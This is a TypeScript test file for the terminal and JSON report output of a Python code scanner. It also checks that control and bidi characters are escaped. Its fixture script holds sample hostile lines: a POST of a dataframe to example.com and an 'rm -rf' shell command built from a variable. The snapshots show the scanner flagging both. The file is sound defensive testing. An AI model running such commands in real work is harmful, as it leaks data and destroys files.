import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { defaultInspectPolicy } from '../inspect/config.ts'
import { createInspector } from '../inspect/inspect.ts'
import { displayText, displayWidth } from './display-text.ts'
import { renderJson } from './json.ts'
import type { FileReport, Report } from './report.ts'
import { linesOf } from './report.ts'
import { renderTerminal } from './terminal.ts'

const inspector = createInspector(defaultInspectPolicy())

function report(path: string, code: string): FileReport {
  const { text, findings } = inspector(code, [])
  return { path, lineText: linesOf(text), findings }
}

function of(...files: readonly FileReport[]): Report {
  return { files, errors: [] }
}

const plain = { hasColour: false, width: 80 }

const script = report(
  'scripts/leak.py',
  `import os
import requests

def send(frame):
\trequests.post("https://example.com/in", data=frame.to_csv())

send(bonds)
os.system("rm -rf " + folder)
while True: pass
`,
)

describe('in a terminal', () => {
  test('findings have place, message, code and help', () => {
    expect(renderTerminal(of(script, report('clean.py', 'x = 1')), plain)).toMatchInlineSnapshot(`
      "scripts/leak.py:2:8: high[import-denied]
        \`requests\` may not be imported.
        1 | import os
        2 | import requests
          |        ^^^^^^^^
        help: Do without it, or have the policy allow it under \`inspect -> imports ->
              allow\`.

      scripts/leak.py:5:2: high[network-used]
        \`requests.post\` sends or fetches something over the network (example.com).
        4 | def send(frame):
        5 |     requests.post("https://example.com/in", data=frame.to_csv())
          |     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
        help: The run has no network: ask for the data as a dataset.

      scripts/leak.py:5:2: low[request-without-timeout]
        \`requests.post\` waits for as long as the server likes.
        4 | def send(frame):
        5 |     requests.post("https://example.com/in", data=frame.to_csv())
          |     ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
        help: Pass \`timeout=10\`.

      scripts/leak.py:8:1: high[destructive-command]
        The command deletes a folder with all that is in it.
        7 | send(bonds)
        8 | os.system("rm -rf " + folder)
          | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
        help: Name what is to be changed, in Python, and ask before.

      scripts/leak.py:8:1: critical[process-started]
        \`os.system\` starts another program.
        7 | send(bonds)
        8 | os.system("rm -rf " + folder)
          | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
        help: Compute in Python; ask for what the program would have given as a
              dataset.

      scripts/leak.py:8:1: high[shell-command]
        \`os.system\` has a shell read a command that is put together at run time.
        7 | send(bonds)
        8 | os.system("rm -rf " + folder)
          | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
        help: Pass a list of arguments and leave \`shell\` out.

      scripts/leak.py:9:1: medium[endless-loop]
        Nothing ends this loop.
        8 | os.system("rm -rf " + folder)
        9 | while True: pass
          | ^^^^^^^^^^
        help: Loop over what is to be worked on, or leave by \`break\` or \`return\`.

      7 findings in 1 of 2 files: 1 critical, 4 high, 1 medium, 1 low.
      "
    `)
  })

  test('colours come from outside', () => {
    const [first] = script.findings
    const only = { ...script, findings: first ? [first] : [] }
    expect(renderTerminal(of(only), { hasColour: true, width: 80 })).toMatchInlineSnapshot(`
      "[1mscripts/leak.py:2:8[0m: [31mhigh[import-denied][0m
        \`requests\` may not be imported.
      [2m  1 |[0m import os
      [2m  2 |[0m import requests
      [2m    |[0m [31m       ^^^^^^^^[0m
        [2mhelp: [0mDo without it, or have the policy allow it under \`inspect -> imports ->
              allow\`.

      [1m1 finding in 1 file: 1 high.[0m
      "
    `)
  })

  test('a clean file is said to be clean', () => {
    expect(renderTerminal(of(report('clean.py', 'x = 1')), plain)).toBe('No findings in 1 file.\n')
  })

  test.each([50, 60, 80, 120])('no line is wider than %i columns', (width) => {
    const long = report('long.py', `${'x = 1; '.repeat(40)}eval(${'"a" + '.repeat(40)}y)\n`)
    for (const line of renderTerminal(of(script, long), { hasColour: false, width }).split('\n')) {
      expect(line.length).toBeLessThanOrEqual(width)
    }
  })

  test('marks stand under wide letters', () => {
    const lines = renderTerminal(of(report('a.py', 'x = "日本"; eval(y)')), plain).split('\n')
    const at = lines.findIndex((line) => line.includes('eval(y)'))
    const code = lines[at] ?? ''
    expect(lines[at + 1]?.indexOf('^')).toBe(displayWidth(code.slice(0, code.indexOf('eval(y)'))))
  })

  test('what the code holds never reaches the terminal as a command', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const code = `x = "${text.replaceAll(/["\\\r\n]/g, '')}"; eval(y)`
        expect(renderTerminal(of(report(`${text}.py`, code)), plain)).not.toMatch(
          /(?!\n)[\p{Cc}\u200e\u200f\u202a-\u202e\u2066-\u2069]/u,
        )
      }),
      { numRuns: 500 },
    )
    expect(displayText('a\u001b[31m\u202eb\t|')).toBe('a\\x1b[31m\\u{202e}b    |')
  }, 30_000)
})

describe('as JSON', () => {
  test('is one stable document', () => {
    const [first] = script.findings
    const only = { ...script, findings: first ? [first] : [] }
    expect(renderJson(of(only))).toMatchInlineSnapshot(`
      {
        "document": "cordon.scan/1",
        "errors": [],
        "files": [
          "scripts/leak.py",
        ],
        "findings": [
          {
            "confidence": 0.9,
            "cwe": [
              829,
            ],
            "file": "scripts/leak.py",
            "fingerprint": "928ffdaf81250186",
            "help": "Do without it, or have the policy allow it under \`inspect -> imports -> allow\`.",
            "layer": "imports",
            "message": "\`requests\` may not be imported.",
            "persona": "gate",
            "rule": "import-denied",
            "severity": "high",
            "span": {
              "column": 7,
              "end": 25,
              "endColumn": 15,
              "endLine": 2,
              "line": 2,
              "start": 17,
            },
          },
        ],
        "summary": {
          "critical": 0,
          "high": 1,
          "low": 0,
          "medium": 0,
          "total": 1,
        },
        "suppressed": [],
      }
    `)
  })
})
